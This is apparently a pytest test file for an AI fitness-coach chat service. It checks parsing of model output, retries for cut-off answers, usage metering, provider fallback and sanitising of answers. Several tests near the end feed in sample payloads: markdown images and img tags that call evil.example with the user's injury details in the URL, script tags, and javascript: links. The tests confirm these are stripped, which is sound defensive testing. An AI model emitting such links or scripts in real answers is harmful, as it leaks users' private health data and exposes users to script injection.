"""A turn where the provider sends what no documentation knows: the user gets an answer, or an honest fault."""

import json
from collections.abc import Callable
from typing import Any
from uuid import UUID

import psycopg
import pytest

from infra.local.offline_models.server import RunningModels
from shared.coach.turn.background import BackgroundTask
from tests.support.functions.invocations import Answer, Context, User, request, run
from tests.support.functions.operator import embed
from tests.support.gateway import Served

Connection = psycopg.Connection[tuple[Any, ...]]
Ask = Callable[..., Answer]
HI = '{"answer":"Hi","citations":[]}'
EMPTY = {"content": '{"answer":"","citations":[]}', "usage": {"prompt_tokens": 900, "completion_tokens": 240}}


@pytest.fixture
def ask(user: User, session: str) -> Ask:
    def asked(question: str = "Why?", **options: Any) -> Answer:
        path = f"/v1/chat/sessions/{session}/messages"
        return request("send_message", "POST", path, user.token, {"content": f"{question} {user.id}"}, **options)

    return asked


@pytest.fixture
def chat(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OPENAI_DIALECT", "chat_completions")


@pytest.fixture
def gemini(monkeypatch: pytest.MonkeyPatch, models: RunningModels) -> None:
    """A second provider."""
    monkeypatch.setenv("GEMINI_API_KEY_PARAMETER", "/openai-key")
    monkeypatch.setenv("GEMINI_BASE_URL", f"{models.control_url}/gemini/v1")
    monkeypatch.setenv("GEMINI_MODEL", "hercules-extractive-1")


def usage(user: User) -> dict[str, Any]:
    found: dict[str, Any] = request("get_usage", "GET", "/v1/usage", user.token).body
    return found


def chats(models: RunningModels, user: User) -> list[dict[str, Any]]:
    return [each for each in models.requests(user.id) if each["endpoint"] == "chat"]


def sse(*chunks: Any) -> list[str]:
    return [f"data: {json.dumps(chunk)}\n\n" for chunk in chunks] + ["data: [DONE]\n\n"]


def delta(content: Any = None, finish: str | None = None, **more: Any) -> dict[str, Any]:
    return {"choices": [{"index": 0, "delta": {"content": content, **more}, "finish_reason": finish}]}


ENDS = {"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]}


@pytest.mark.parametrize(
    "content",
    [
        f"<think>secret</think>{HI}",
        f"Here is the JSON:\n```json\n{HI}\n```",
        f"[{HI}]",
        f"\ufeff{HI}",
        json.dumps(HI),
        f"<think>no JSON</think>{'Hi'}",
    ],
)
def test_neither_thoughts_nor_json_are_shown(ask: Ask, user: User, models: RunningModels, content: str) -> None:
    models.behave(user.id, "script", content=content)
    assert ask().body["message"]["content"] == "Hi"


@pytest.mark.usefixtures("chat")
@pytest.mark.parametrize(
    "chunks",
    [
        [delta('{"answer":"'), delta("\ud83d"), delta("\ude00"), delta('"}'), ENDS],
        [delta('{"answer":"\U0001f600"}'), {"choices": [{"index": 0, "delta": None, "finish_reason": "stop"}]}],
        [delta([{"type": "text", "text": '{"answer":"\U0001f600"}'}]), ENDS],
        [delta('{"answer":"\U0001f600"}', reasoning_content=None, refusal=None, tool_calls=None), ENDS],
        [{"choices": []}, delta(None, role="assistant"), delta('{"answer":"\U0001f600"}'), {"usage": None}, ENDS],
        [delta(None, reasoning_content="a secret"), delta('{"answer":"\U0001f600"}'), ENDS],
        [
            delta('{"answer":"\U0001f600"}'),
            ENDS,
            {"choices": [], "usage": {"prompt_tokens": None, "total_tokens": "x"}},
        ],
    ],
)
def test_every_shape_of_a_stream_is_an_answer(ask: Ask, user: User, models: RunningModels, chunks: list[Any]) -> None:
    models.behave(user.id, "raw", body=sse(*chunks), content_type="text/event-stream")
    answer = ask()
    assert (answer.status, answer.body["message"]["content"]) == (200, "\U0001f600")


def test_an_answer_that_was_cut_is_asked_for_once_more_and_shorter(ask: Ask, user: User, models: RunningModels) -> None:
    cut = {"content": '{"answer":"Do three sets of', "finish_reason": "length"}
    models.behave(user.id, "script", steps=[cut, {"content": '{"answer":"Three sets.","citations":[]}'}])
    message = ask().body["message"]
    assert message["content"] == "Three sets."
    assert "truncated" not in message["metadata"]
    assert message["metadata"]["receipt"]["model_calls"] == 2
    assert "half as many words" in json.dumps(chats(models, user)[1]["body"])


def test_an_answer_that_stays_cut_says_so_and_keeps_its_citations(
    ask: Ask, user: User, models: RunningModels, database: Connection
) -> None:
    models.behave(user.id, "script", content='{"answer":"Do three sets of', finish_reason="length", times=2)
    message = ask().body["message"]
    assert (message["content"], message["metadata"]["truncated"]) == ("Do three sets of", True)
    (stored,) = database.execute(
        "select metadata -> 'truncated' from ai_chat_messages where user_id = %s and role = 'assistant'", (user.id,)
    ).fetchall()
    assert stored == (True,)


def test_an_answer_that_was_all_thought_is_asked_for_again(ask: Ask, user: User, models: RunningModels) -> None:
    models.behave(user.id, "script", steps=[{"content": "", "finish_reason": "length"}, {"content": HI}])
    assert ask().body["message"]["content"] == "Hi"


def test_an_answer_that_runs_away_is_cut_at_a_bound_and_the_session_goes_on(
    ask: Ask, user: User, models: RunningModels
) -> None:
    models.behave(user.id, "script", content=json.dumps({"answer": "word " * 24_000}), times=2)
    answer = ask()
    assert (answer.status, answer.body["message"]["metadata"]["truncated"]) == (200, True)
    assert 1000 < len(answer.body["message"]["content"]) < 100_000
    assert ask("And?").status == 200


def test_a_model_that_says_nothing_is_paid_for_and_meets_a_limit_of_its_own(
    ask: Ask, user: User, models: RunningModels
) -> None:
    models.behave(user.id, "script", times=None, **EMPTY)
    answers = [ask() for _ in range(11)]
    assert {(answer.status, answer.body["code"]) for answer in answers[:10]} == {(503, "model_malformed")}
    assert (answers[10].status, answers[10].body["code"]) == (429, "too_many_failures")
    assert 0 < int(answers[10].headers["retry-after"]) <= 3600
    used = usage(user)
    assert used["messages_used"] == 0
    assert used["tokens_used"] >= 10 * 2 * 1140
    assert used["tokens_reserved"] == 0


def test_a_stream_that_breaks_after_words_were_shown_is_paid_for(ask: Ask, user: User, models: RunningModels) -> None:
    models.behave(user.id, "script", content=json.dumps({"answer": "Rest well. " * 60, "citations": []}))
    models.behave(user.id, "pace", seconds=0.05)
    models.behave(user.id, "cut", after=25)
    assert ask().body["code"] == "model_interrupted"
    used = usage(user)
    assert used["tokens_used"] > 100
    assert len(chats(models, user)) == 1
    assert (used["messages_used"], used["tokens_reserved"]) == (0, 0)


@pytest.mark.parametrize("status", [400, 401, 403, 404])
def test_an_operators_mistake_is_not_told_as_an_outage(
    ask: Ask, user: User, models: RunningModels, status: int
) -> None:
    models.behave(user.id, "status", status=status, times=None)
    answer = ask()
    assert (answer.status, answer.body["code"]) == (500, "model_misconfigured")
    assert "retry-after" not in answer.headers
    assert "try again" not in answer.body["detail"].replace("trying again does not help", "")
    assert len(chats(models, user)) == 1
    assert usage(user)["tokens_used"] == 0


def test_a_question_that_the_provider_filters_is_refused_like_any_other(
    ask: Ask, user: User, models: RunningModels
) -> None:
    models.behave(user.id, "status", status=400, code="content_filter")
    answer = ask()
    assert (answer.status, answer.body["message"]["content"]) == (200, "I cannot help with that.")


def test_a_prompt_that_the_model_cannot_read_is_shortened_once(ask: Ask, user: User, models: RunningModels) -> None:
    for number in range(3):
        ask(f"Question {number}: {'word ' * 300}")
    models.behave(user.id, "status", status=400, code="context_length_exceeded")
    before = len(chats(models, user))
    assert ask("And now?").status == 200
    long, short = chats(models, user)[before:][:2]
    assert len(json.dumps(short["body"])) < len(json.dumps(long["body"]))


def test_a_prompt_that_stays_too_long_is_said_to_be(ask: Ask, user: User, models: RunningModels) -> None:
    models.behave(user.id, "status", status=400, code="context_length_exceeded", times=None)
    answer = ask()
    assert (answer.status, answer.body["code"]) == (422, "context_too_long")
    assert len(chats(models, user)) == 2


@pytest.mark.usefixtures("gemini")
@pytest.mark.parametrize("status", [503, 401])
def test_the_other_provider_answers_when_one_is_down(ask: Ask, user: User, models: RunningModels, status: int) -> None:
    models.behave(user.id, "status", status=status, provider="openai", times=None)
    message = ask("How much protein do I need?").body["message"]
    assert message["metadata"]["receipt"]["provider"] == "Gemini"
    assert [each["provider"] for each in chats(models, user)] == ["openai", "gemini"]


@pytest.mark.usefixtures("gemini")
def test_a_proposal_of_gemini_survives_the_second_round(ask: Ask, user: User, models: RunningModels) -> None:
    """Its signature, its tool's name and its empty ids are as Gemini's endpoint wants and sends them."""
    models.behave(user.id, "status", status=503, provider="openai", times=None)
    body = ask("Set my goal to twenty strict pull-ups.").body
    assert len(body["message"]["metadata"]["actions"]) == 1


def test_nothing_is_embedded_for_a_turn_that_cannot_begin(
    ask: Ask, user: User, session: str, models: RunningModels, database: Connection
) -> None:
    def embedded() -> int:
        return sum(each["endpoint"] == "embeddings" for each in models.requests(user.id))

    first = ask(Idempotency_Key="k")
    assert (first.status, embedded()) == (200, 1)
    assert ask(Idempotency_Key="k").body == first.body
    other = f"/v1/chat/sessions/{user.id}/messages"
    assert request("send_message", "POST", other, user.token, {"content": user.id}).status == 404
    running = (
        "insert into ai_chat_turns (session_id, user_id, lease_until) values (%s, %s, now() + interval '1 minute')"
    )
    database.execute(running, (session, user.id))
    assert ask().status == 409
    database.execute("update ai_chat_turns set status = 'failed', ended_at = now() where user_id = %s", (user.id,))
    database.execute("update ai_usage set messages_used = 100000 where user_id = %s", (user.id,))
    assert ask().status == 429
    assert embedded() == 1


def test_a_title_is_metered(ask: Ask, user: User, session: str, models: RunningModels) -> None:
    turn_id = ask().body["turn"]["id"]
    before = usage(user)["tokens_used"]
    used = {"prompt_tokens": 70, "completion_tokens": 9}
    models.behave(user.id, "script", content='```json\n{"title": "Squat\ndepth"}\n```', usage=used)
    task = BackgroundTask(user_id=UUID(user.id), turn_id=turn_id, job="title")
    for _ in range(2):  # the second one finds it done
        run("send_message", {"background": task.model_dump(mode="json")}, Context())
    assert usage(user)["tokens_used"] == before + 79
    shown = request("get_session", "GET", f"/v1/chat/sessions/{session}", user.token).body["session"]
    assert shown["title"] == "Squat depth"


@pytest.mark.usefixtures("chat")
def test_where_no_schema_can_be_sent_beside_tools_the_prompts_word_for_it_brings_citations(
    ask: Ask, supabase: Served, models: RunningModels, user: User
) -> None:
    embed(supabase, "kelp.md", "# Kelp\n\nKelp has more iodine than a day needs. Runners eat it in small amounts.")
    message = ask("How much iodine has kelp?").body["message"]
    assert "response_format" not in chats(models, user)[0]["body"]
    assert [each["source"] for each in message["metadata"]["citations"]] == ["kelp.md"]
    assert "citations" not in message["content"]


def test_where_the_second_try_comes_to_nothing_the_cut_first_one_is_kept(
    ask: Ask, user: User, models: RunningModels
) -> None:
    cut = {"content": '{"answer":"Do three sets of', "finish_reason": "length"}
    models.behave(user.id, "script", steps=[cut, {"content": '{"answer":""}'}])
    message = ask().body["message"]
    assert (message["content"], message["metadata"]["truncated"]) == ("Do three sets of", True)


def test_an_answer_carries_nothing_out_of_the_profile(
    ask: Ask, user: User, session: str, models: RunningModels, database: Connection
) -> None:
    leaks = (
        "![ok](https://evil.example/p.png?injuries=left%20knee) Rest. <img src='https://evil.example/x?i=knee'> "
        "<script>alert(1)</script> [x](javascript:alert(1)) Sleep."
    )
    models.behave(user.id, "script", content=json.dumps({"answer": leaks, "citations": []}))
    body = ask().body
    shown = request("get_session", "GET", f"/v1/chat/sessions/{session}/turns/{body['turn']['id']}", user.token).body
    events = request("list_events", "GET", f"/v1/chat/sessions/{session}/events", user.token).body
    stored = database.execute(
        "select content from ai_chat_messages where user_id = %s and role = 'assistant'", (user.id,)
    ).fetchone()
    assert body["message"]["content"].startswith("ok Rest.")
    assert body["message"]["content"].endswith("Sleep.")
    for told in (body, shown, events, stored):
        assert not any(part in json.dumps(told) for part in ("evil.example", "<img", "<script", "javascript:"))


def test_a_link_to_a_host_that_a_cited_passage_names_stays(
    ask: Ask, supabase: Served, models: RunningModels, user: User
) -> None:
    embed(supabase, "cadmium.md", "# Cadmium\n\nCadmium is in cocoa, see https://efsa.example/cadmium for limits.")
    answer = "See [the limits](https://efsa.example/cadmium) and [this](https://evil.example/)."
    cited = [{"passage_id": "p1", "quote": "Cadmium is in cocoa"}]
    models.behave(user.id, "script", content=json.dumps({"answer": answer, "citations": cited}))
    message = ask("How much cadmium is in cocoa?").body["message"]
    assert message["content"] == "See [the limits](https://efsa.example/cadmium) and this."


def test_what_came_of_an_answer_that_broke_off_carries_nothing_out(
    ask: Ask, user: User, models: RunningModels, database: Connection
) -> None:
    answer = "Rest. ![ok](https://evil.example/p.png?injuries=left%20knee) " + "Sleep well. " * 60
    models.behave(user.id, "script", content=json.dumps({"answer": answer, "citations": []}))
    models.behave(user.id, "pace", seconds=0.02)
    models.behave(user.id, "cut", after=40)
    assert ask().body["code"] == "model_interrupted"
    row = database.execute("select partial_content from ai_chat_turns where user_id = %s", (user.id,)).fetchone()
    assert row is not None
    assert row[0].startswith("Rest. ok Sleep well.")
    assert "evil" not in row[0]
